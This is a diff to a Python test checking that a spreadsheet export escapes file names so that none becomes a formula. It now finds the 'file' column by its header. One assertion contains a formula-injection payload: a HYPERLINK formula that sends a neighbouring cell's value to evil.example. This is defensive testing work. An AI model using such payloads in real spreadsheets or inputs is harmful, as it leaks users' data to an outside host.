@@ -166,7 +166,8 @@ def test_no_cell_from_a_file_name_is_a_formula(hostile_batch: tuple[Path, subpro
     values = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.value for cell in values if cell.data_type == "f"]
     assert not [cell.value for cell in values if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
-    files = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
+    files = [row[header.index("file")].value for row in sheet.iter_rows(min_row=2)]  # learner comes first (issue 13)
     assert "'=HYPERLINK(\"http:__evil.example_?x=\"&B2,\"Open\").md" in files  # shown as the text it is
     with (outdir / "errors.csv").open(encoding="utf-8") as handle:
         (failure,) = list(csv.DictReader(handle))
